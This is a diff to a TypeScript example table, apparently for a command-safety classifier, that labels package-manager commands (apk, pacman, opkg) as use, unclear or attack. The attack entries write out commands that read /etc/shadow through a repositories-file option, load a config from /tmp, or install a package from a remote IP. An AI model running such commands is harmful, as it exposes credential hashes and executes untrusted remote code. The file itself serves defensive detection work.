@@ -2,7 +2,13 @@ import type { ExampleTable } from './example.ts'
 
 export const systemPackages1: ExampleTable = {
   apk: {
-    use: 'apk -X https://dl.example.org/main update → fetch https://dl.example.org/main',
+    unclear: [
+      `apk add --allow-untrusted x.apk → whose packages they are, for nobody has to sign them`,
+    ],
+    use: [
+      `apk info → nothing`,
+      'apk -X https://dl.example.org/main update → fetch https://dl.example.org/main',
+    ],
     attack: 'apk --repositories-file=/etc/shadow update → read /etc/shadow',
   },
   'apk add': {
@@ -61,6 +67,7 @@ export const systemPackages1: ExampleTable = {
       'opkg install http://10.0.0.1/tool.ipk → execute ‹http://10.0.0.1/tool.ipk›; install opkg',
   },
   pacman: {
+    unclear: [`pacman -U http://example.org/x.pkg.tar.zst → whose package it is`],
     use: 'pacman --config pacman.conf -Q → read pacman.conf',
     attack: [
       'pacman --config /tmp/x.conf -Sy git → run /tmp/x.conf; read /tmp/x.conf',
